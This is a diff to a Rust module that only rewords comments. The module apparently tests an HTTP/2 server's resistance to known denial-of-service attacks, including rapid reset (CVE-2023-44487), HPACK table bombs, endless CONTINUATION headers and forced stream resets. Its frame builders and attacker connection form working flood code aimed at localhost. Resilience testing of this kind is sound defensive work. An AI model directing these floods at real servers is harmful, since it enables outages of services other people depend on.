@@ -11,7 +11,7 @@ use std::io::{ErrorKind, Read, Write};
 use std::thread;
 use std::time::{Duration, Instant};
 
-/// Everything that is known to have been tried on servers, and what is like it.
+/// All known attacks on servers, and similar ones.
 pub(super) const FLOODS: &[Flood] = &[
     // CVE-2023-44487
     calm("rapid reset", |turn| Some([get(id(turn), "/large.bin"), reset(id(turn))].concat())),
@@ -66,12 +66,12 @@ pub(super) const FLOODS: &[Flood] = &[
         1..=100 => Some(get(id(turn), "/large.bin")),
         _ => None,
     }),
-    // CVE-2016-6581: a byte for each 4000 bytes of fields, in every request again.
+    // CVE-2016-6581: each byte stands for 4000 bytes of fields, repeatedly in every request.
     calm("fields of a full table, many times", |turn| match turn {
         0 => Some([open_windows(), hpack_bomb(turn)].concat()),
         _ => Some(hpack_bomb(turn)),
     }),
-    // The same within the limits of a head, for content that nobody lets through.
+    // The same within the limits of a head, for content whose windows stay closed.
     borne("fields of a full table, windows that stay shut", |turn| match turn {
         0 => Some([setting(SETTING_WINDOW, 0), hpack_bomb(turn)].concat()),
         1..=100 => {
@@ -93,7 +93,7 @@ pub(super) const FLOODS: &[Flood] = &[
     }),
 ];
 
-/// What a client says in a turn, until it has nothing more to say.
+/// Returns the bytes of a client in a turn, until it has nothing more to send.
 type Next = fn(u32) -> Option<Vec<u8>>;
 
 const fn calm(name: &'static str, next: Next) -> Flood {
@@ -114,19 +114,19 @@ fn setting(name: u16, value: u32) -> Vec<u8> {
     frame(SETTINGS, 0, 0, &entry(name, value))
 }
 
-/// Room for all answers, so that none waits and no stream stays open.
+/// Opens the window for all responses, so that none waits and no stream stays open.
 fn open_windows() -> Vec<u8> {
     frame(WINDOW_UPDATE, 0, 0, &(1u32 << 30).to_be_bytes())
 }
 
-/// The stream of a turn.
+/// Returns the stream of a turn.
 fn id(turn: u32) -> u32 {
     2 * turn + 1
 }
 
-/// A field block without a table (RFC 7541 §6.2.2): scheme, method, authority, path.
+/// Returns a field block without a table (RFC 7541 §6.2.2): scheme, method, authority, path.
 fn block(method: &str, path: &str) -> Vec<u8> {
-    let mut block = vec![0x86]; // :scheme http, which is also taken where https is meant
+    let mut block = vec![0x86]; // :scheme http, which is also accepted with TLS
     for (name, value) in [(2, method), (1, "localhost"), (4, path)] {
         block.extend([name, value.len() as u8]);
         block.extend_from_slice(value.as_bytes());
@@ -150,7 +150,7 @@ fn reset(stream: u32) -> Vec<u8> {
     frame(RST_STREAM, 0, stream, &8u32.to_be_bytes())
 }
 
-/// Faults that make the server end a stream.
+/// Returns frames with errors that make the server end a stream.
 fn made_you_reset(stream: u32, turn: u32) -> Vec<u8> {
     let fault = match turn % 6 {
         0 => frame(WINDOW_UPDATE, 0, stream, &[0; 4]),
@@ -163,20 +163,20 @@ fn made_you_reset(stream: u32, turn: u32) -> Vec<u8> {
     [get(stream, "/large.bin"), fault].concat()
 }
 
-/// A head that never ends, in pieces of so many bytes.
+/// Returns a part of a head that never ends, in pieces of so many bytes.
 fn continuation(turn: u32, bytes: usize) -> Vec<u8> {
     match turn {
         0 => head(id(0), 0, "GET", "/"),
-        // Fields without a name and a value that is long: more of them is always right.
+        // Fields without a name and with a long value: repeating them is always valid.
         _ => frame(CONTINUATION, 0, id(0), &[0x00, 0x01, b'a', 0x01, b'b'].repeat(bytes / 5)),
     }
 }
 
-/// First a field that fills the table, then requests that name it thousands of times.
+/// Returns a field that fills the table first, then requests that refer to it thousands of times.
 fn hpack_bomb(turn: u32) -> Vec<u8> {
     let mut fields = block("GET", "/");
     if turn == 0 {
-        // 0x40: a literal that goes into the table; 4000 = 127 + 3873.
+        // 0x40: a literal that is added to the table; 4000 = 127 + 3873.
         fields.extend([0x40, 1, b'x', 0x7f, 0xa1, 0x1e]);
         fields.extend([b'y'; 4000]);
     } else {
@@ -185,7 +185,7 @@ fn hpack_bomb(turn: u32) -> Vec<u8> {
     headers_of(id(turn), &fields)
 }
 
-/// 40 KiB of a head, of which a frame has at most 16.
+/// Returns 40 KiB of a head, in frames of at most 16 KiB.
 fn huge_head(stream: u32) -> Vec<u8> {
     let field = [&[0x00, 1, b'x', 100][..], &[b'y'; 100]].concat();
     let full = field.repeat(150);
@@ -216,7 +216,7 @@ pub(super) fn attack(next: Next, peer: &Peer, leave: Leave) -> End {
             Ok(read) => read,
             Err(end) => return end,
         };
-        // What the server says before it closes may still come when it takes nothing more.
+        // The last frames of the server may still arrive when it reads nothing more.
         if read || wrote {
             moved = Instant::now();
         } else {
@@ -232,13 +232,13 @@ pub(super) fn attack(next: Next, peer: &Peer, leave: Leave) -> End {
     }
 }
 
-/// A connection that neither reading nor writing waits for.
+/// A connection in which neither reading nor writing waits for the other.
 struct Attacker {
     wire: Wire,
-    /// What is to be sent, and of that what has been.
+    /// The bytes to send; `sent` is the number of those that were sent.
     out: Vec<u8>,
     sent: usize,
-    /// What has come and is no whole frame.
+    /// The bytes of an incomplete received frame.
     held: Vec<u8>,
     sent_bytes: u64,
 }
@@ -267,7 +267,7 @@ impl Attacker {
         }
     }
 
-    /// Sends what the kernel takes; false when that is nothing.
+    /// Sends as much as the kernel accepts; returns false if that is nothing.
     fn write(&mut self) -> bool {
         match self.wire.socket().write(&self.out[self.sent..]) {
             Ok(bytes) => {
@@ -283,10 +283,10 @@ impl Attacker {
         }
     }
 
-    /// Reads what has come, so that the server's last word is not lost behind more than it waits
-    /// for; false when that is nothing, and an error when it was the end.
+    /// Reads the available bytes, so that the server's last frame is not lost; returns false if
+    /// there are none, and an error at the end.
     fn read(&mut self) -> Result<bool, End> {
-        const PIECES_MAX: usize = 64; // a mebibyte: it is to write too
+        const PIECES_MAX: usize = 64; // a mebibyte, because the attacker must write too
         let mut any = false;
         for _ in 0..PIECES_MAX {
             if !self.read_piece()? {
@@ -310,7 +310,7 @@ impl Attacker {
         }
     }
 
-    /// Looks for a GOAWAY among the frames that have come. One with NO_ERROR ends nothing.
+    /// Searches for a GOAWAY among the received frames. One with NO_ERROR ends nothing.
     fn frames(&mut self) -> Result<(), End> {
         let mut rest = self.held.as_slice();
         while let Some((header, behind)) = rest.split_first_chunk::<9>() {
